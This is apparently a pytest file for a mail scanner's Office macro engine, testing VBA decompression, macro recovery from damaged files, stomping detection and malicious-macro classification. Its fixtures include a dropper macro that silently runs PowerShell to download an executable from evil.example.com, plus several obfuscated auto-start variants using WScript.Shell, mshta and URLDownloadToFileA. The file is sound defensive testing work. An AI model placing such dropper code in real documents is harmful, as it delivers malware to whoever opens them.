"""VBA: decompressed as the specification says, found through broken directories, judged by what it would do."""

import pytest

from mailock.core.evidence.filetype import Family
from mailock.core.evidence.finding import Confidence, Severity
from mailock.engines.office.engine import Office
from mailock.engines.office.macros import judged, plain
from mailock.engines.office.ovba import Broken, decompressed, modules
from tests.parts.compound import compound, packed, project, vba
from tests.parts.documents import docx
from tests.parts.said import Said, look

ENGINE = Office()
DROPPER = (
    "Sub AutoOpen()\r\n"
    'CreateObject("WScript.Shell").Run "powershell -w hidden iwr http://evil.example.com/a.exe -o x"\r\n'
    "End Sub\r\n"
)
HARMLESS = 'Sub Tidy()\r\n  Range("A1").Font.Bold = True\r\nEnd Sub\r\n'


def docm(modules_: dict[str, str], **told: bytes) -> Said:
    """What is said of a document with these macros."""
    return look(ENGINE, docx(extra={"word/vbaProject.bin": vba(modules_, **told)}), Family.OOXML)  # type: ignore[arg-type]  # octets only


@pytest.mark.parametrize(
    ("container", "content"),
    [
        ("0119B000616263646566676800696A6B6C6D6E6F70007172737475762E", b"abcdefghijklmnopqrstuv."),
        (
            "012FB00023616161626364658266007061676869 6A013808616B6C00306D6E6F7006710270041072737475761077 78797A003C",
            b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
        ),
        ("0103B002614500", b"a" * 73),
    ],
)
def test_the_examples_of_the_specification_are_decompressed(container: str, content: bytes) -> None:
    assert decompressed(bytes.fromhex(container.replace(" ", ""))) == content


def test_a_token_that_points_before_its_chunk_is_broken() -> None:
    with pytest.raises(Broken):
        decompressed(bytes.fromhex("0103B0 0161FFFF".replace(" ", "")))


def test_a_container_that_unpacks_without_end_is_broken() -> None:
    chunk = bytes.fromhex("03B0026145F0")[:2] + b"\x02a\x45\xf0"
    with pytest.raises(Broken):
        decompressed(b"\x01" + chunk * 100_000, 1 << 20)


def test_the_decompression_of_what_the_parts_pack_is_what_went_in() -> None:
    source = bytes(range(32, 127)) * 200
    assert decompressed(packed(source)) == source


def test_modules_are_found_without_their_directory() -> None:
    streams = {name.lower(): content for name, content in project({"A": HARMLESS}).items()}
    for directory in (streams["dir"], b"", b"\x01broken"):
        (module,) = modules(streams | {"dir": directory})
        assert "Range" in module.untrusted_source


def test_macros_that_start_by_themselves_and_run_programs_are_malicious() -> None:
    said = docm({"ThisDocument": DROPPER})
    assert said.worst("office.macro") == (Severity.MALICIOUS, Confidence.HIGH)
    assert "http://evil.example.com/a.exe" in said.urls
    assert [child.provenance for child in said.children] == ["vba"]
    assert b"powershell" in said.children[0].content


def test_macros_of_no_note_are_told_as_macros() -> None:
    assert docm({"Module1": HARMLESS}).worst("office.macro") == (Severity.SUSPICIOUS, Confidence.LOW)


def test_macros_are_found_under_any_name_and_in_old_documents() -> None:
    renamed = look(ENGINE, docx(extra={"word/media/image1.png": vba({"A": DROPPER})}), Family.OOXML)
    assert renamed.worst("office.macro")[0] is Severity.MALICIOUS
    old = compound({f"Macros/VBA/{name}": content for name, content in project({"A": DROPPER}).items()})
    assert look(ENGINE, old, Family.OLE).worst("office.macro")[0] is Severity.MALICIOUS


def test_macros_are_found_in_a_broken_compound_file() -> None:
    broken = b"\xd0\xcf\x11\xe0" + bytes(600) + packed(b'Attribute VB_Name = "A"\r\n' + DROPPER.encode())
    said = look(ENGINE, broken, Family.OLE)
    assert said.worst("office.macro")[0] is Severity.MALICIOUS
    assert said.unfinished is not None


@pytest.mark.parametrize(
    "source",
    [
        'Sub Document_Open()\n Shell "cmd /c calc"\nEnd Sub',
        'Private Sub Workbook_Open()\n x = "She" & "ll.Appl" & "ication"\n CreateObject(x).ShellExecute y\nEnd Sub',
        'Sub auto_open()\n CreateObject(Chr(87) & Chr(83) & Chr(99) & "ri" & Chr(112) & "t.Shell").Exec z\nEnd Sub',
        'Sub AutoClose()\n GetObject(StrReverse("ssecorP_23niW:stmgmniw")).Create q\nEnd Sub',
        'Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (a)\nSub AutoExec()\n URLDownloadToFileA 0\nEnd Sub',
        'Sub InkEdit1_GotFocus()\n Shell _\n  ("mshta http://x")\nEnd Sub',
        'Sub Workbook_BeforeClose(c)\n ExecuteExcel4Macro "CALL()"\nEnd Sub',
    ],
)
def test_what_starts_and_runs_is_malicious_however_it_is_written(source: str) -> None:
    assert judged(source).severity is Severity.MALICIOUS


@pytest.mark.parametrize(
    "source",
    [
        HARMLESS,
        'Sub Workbook_Open()\n MsgBox "Welcome"\nEnd Sub',
        '\' This used to Shell "cmd /c x" in AutoOpen\nSub Tidy()\nEnd Sub',
        'Sub Button1_Click()\n Shell "notepad.exe"\nEnd Sub',
    ],
)
def test_what_people_write_is_not_malicious(source: str) -> None:
    assert judged(source).severity is Severity.SUSPICIOUS


def test_strings_are_put_together() -> None:
    assert '"WScript.Shell"' in plain('x = "WScr" & "ipt" & _\r\n   Chr(46) & "Sh" + "ell"')


def test_stomped_macros_are_told() -> None:
    known = b"\0AutoOpen\0\0Shell\0CreateObject\0"
    said = docm({"ThisDocument": "Sub Nothing()\r\nEnd Sub\r\n"}, known=known)
    assert said.worst("office.macro_hidden") == (Severity.MALICIOUS, Confidence.MEDIUM)
    empty = docm({"ThisDocument": ""}, known=known)
    assert empty.worst("office.macro_hidden") == (Severity.MALICIOUS, Confidence.MEDIUM)
    honest = docm({"ThisDocument": DROPPER}, known=b"\0AutoOpen\0CreateObject\0")
    assert "office.macro_hidden" not in honest.kinds


def test_a_program_within_a_macro_is_taken_out() -> None:
    program = b"MZ" + bytes(60) + b"PE\0\0" + bytes(200)
    said = docm({"A": f'Sub x()\r\n a = "{program.hex()}"\r\nEnd Sub\r\n'})
    assert program in [child.content for child in said.children]
